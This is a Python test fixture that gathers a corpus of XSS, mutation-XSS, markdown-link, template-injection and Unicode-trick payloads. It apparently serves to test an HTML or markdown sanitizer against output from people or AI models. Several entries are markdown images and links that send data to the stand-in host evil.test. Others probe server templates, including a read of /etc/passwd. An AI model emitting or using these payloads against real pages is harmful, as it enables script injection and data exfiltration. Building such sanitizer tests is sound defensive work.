"""What people and models may write to break out of a page. Each would set `window.hit` or ask `evil.test`."""

RUN = "window.hit=1;alert(1)"

SCRIPTS = [
    f"<script>{RUN}</script>",
    f"<ScRiPt>{RUN}</sCrIpT>",
    "<script src=https://evil.test/x.js></script>",
    f"</script><script>{RUN}</script>",
    f"</style><script>{RUN}</script>",
    f"</title><script>{RUN}</script>",
    f"</textarea></p></div></section><script>{RUN}</script>",
    f"<<script>{RUN}//<</script>",
    f"<scr\0ipt>{RUN}</scr\0ipt>",
    f"<!--><script>{RUN}</script>-->",
    f"<![CDATA[<script>{RUN}</script>]]>",
    f"<?xml version='1.0'?><script>{RUN}</script>",
    f"<noscript><p title='</noscript><script>{RUN}</script>'>",
    f"<template><script>{RUN}</script></template>",
]

HANDLERS = [
    f"<img src=x onerror={RUN}>",
    f"<img/src=x/onerror={RUN}>",
    f"<svg onload={RUN}>",
    f"<svg><animate onbegin={RUN} attributeName=x></svg>",
    f"<body onload={RUN}>",
    f"<details open ontoggle={RUN}>x</details>",
    f"<input autofocus onfocus={RUN}>",
    f"<video><source onerror={RUN}></video>",
    f"<p style=animation-name:x onanimationstart={RUN}>",
    f'" autofocus onfocus="{RUN}" x="',
    f"' onmouseover='{RUN}' x='",
    f"` onmouseover=`{RUN}`",
    f'x" onerror="{RUN}" src="x',
]

ELEMENTS = [
    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    "<iframe src=https://evil.test/></iframe>",
    f"<object data='data:text/html,<script>{RUN}</script>'></object>",
    "<embed src=https://evil.test/x.swf>",
    "<base href=https://evil.test/>",
    "<meta http-equiv=refresh content='0;url=https://evil.test/'>",
    "<link rel=stylesheet href=https://evil.test/x.css>",
    "<link rel=prefetch href=https://evil.test/x>",
    "<style>@import 'https://evil.test/x.css';*{background:url(https://evil.test/y)}</style>",
    "<p style='background:url(https://evil.test/x)'>x</p>",
    "<form action=https://evil.test/><button>x</button></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<table background=https://evil.test/x><tr><td>x</table>",
    "<video poster=https://evil.test/x autoplay src=https://evil.test/y></video>",
    "<audio src=https://evil.test/x autoplay>",
    "<a href=https://evil.test/ ping=https://evil.test/p>x</a>",
]

MUTATIONS = [
    f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror={RUN}&gt;'>",
    f"<svg></p><style><a id='</style><img src=1 onerror={RUN}>'>",
    f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={RUN}>",
    f"<math><annotation-xml encoding='text/html'><style><img src=x onerror={RUN}></style></annotation-xml>",
    f"<svg><desc><noscript><img src=x onerror={RUN}></noscript></desc></svg>",
    f"<svg><use href=\"data:image/svg+xml,<svg id='x' onload='{RUN}'/>#x\"></svg>",
    f"<xmp><p title='</xmp><img src=x onerror={RUN}>'>",
]

MARKDOWN = [
    "![x](https://evil.test/a?q=secret)",
    "![x][1]\n\n[1]: https://evil.test/b",
    "[![x](https://evil.test/c)](https://evil.test/)",
    "> - | ![x](https://evil.test/d) |\n> - |-|",
    "![x](//evil.test/e)",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    f"[x](javascript:{RUN})",
    f"[x](JaVa\tScRiPt:{RUN})",
    f"[x](&#106;&#97;vascript&colon;{RUN})",
    f"[x](java&NewLine;script:{RUN})",
    f"<javascript:{RUN}>",
    f"[x](data:text/html,<script>{RUN}</script>)",
    "[x](vbscript:msgbox)",
    f'[x](https://evil.test/ "onmouseover={RUN}")',
    f'[x](https://evil.test/"onmouseover="{RUN})',
    f"[x]: javascript:{RUN}\n\n[x]",
    "<https://evil.test/auto>",
    f'```html" onmouseover="{RUN}\n<script>{RUN}</script>\n```',
    f"`<script>{RUN}</script>`",
    f"    <script>{RUN}</script>",
    f"| <img src=x onerror={RUN}> |\n|-|\n| <svg onload={RUN}> |",
    f"&lt;script&gt;{RUN}&lt;/script&gt;",
    f"&#60;script&#62;{RUN}&#60;/script&#62;",
    f"\\<script>{RUN}\\</script>",
    f"# <img src=x onerror={RUN}>",
]

TEMPLATES = [
    "{{7*7}}{{ config }}",
    "{% include '/etc/passwd' %}",
    "${7*7}#{7*7}<%= 7*7 %>",
    "{{ ''.__class__.__mro__ }}",
]

ODDITIES = [
    "\u202e<script>\u202c\u2066\u2067",
    "a\0b\x1b[31m\x07",
    "\ufeff<script>",
    f"＜script＞{RUN}＜/script＞",
    f"+ADw-script+AD4-{RUN}+ADw-/script+AD4-",
    "<" * 500,
    "\u2028\u2029",
]

CORPUS = [*SCRIPTS, *HANDLERS, *ELEMENTS, *MUTATIONS, *MARKDOWN, *TEMPLATES, *ODDITIES]
